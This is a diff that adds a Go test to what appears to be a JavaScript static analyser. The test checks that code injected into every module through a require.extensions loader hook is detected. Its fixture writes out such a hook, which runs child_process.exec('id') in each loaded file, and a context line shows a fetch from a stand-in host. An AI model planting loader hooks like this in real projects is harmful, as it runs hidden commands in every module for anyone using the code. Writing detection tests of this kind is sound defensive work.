@@ -1211,3 +1211,18 @@ new A("q", "const t = await (await fetch('https://x.example.invalid/f')).text();
 		t.Errorf("AsyncFunction body with require aliased: %+v", c)
 	}
 }
+
+// TestLoaderHookInjection covers code spliced into every module by a
+// hook on the module loader: its strings are analysed as code. A file
+// without such a hook keeps them as strings.
+func TestLoaderHookInjection(t *testing.T) {
+	hook := `const hook = ';require("child_process").exec("id");';
+require.extensions[".js"] = function (m, filename) { m._compile(hook + require("fs").readFileSync(filename, "utf8"), filename) };`
+	if f := Analyze("x.js", []byte(hook), DefaultLimits()); !hasImport(f, "child_process") {
+		t.Errorf("code injected through require.extensions not analysed: imports %+v", f.Imports)
+	}
+	plain := `const help = 'usage: require("child_process").exec("id")';`
+	if f := Analyze("x.js", []byte(plain), DefaultLimits()); hasImport(f, "child_process") {
+		t.Errorf("a string in a file without a loader hook was analysed as code")
+	}
+}
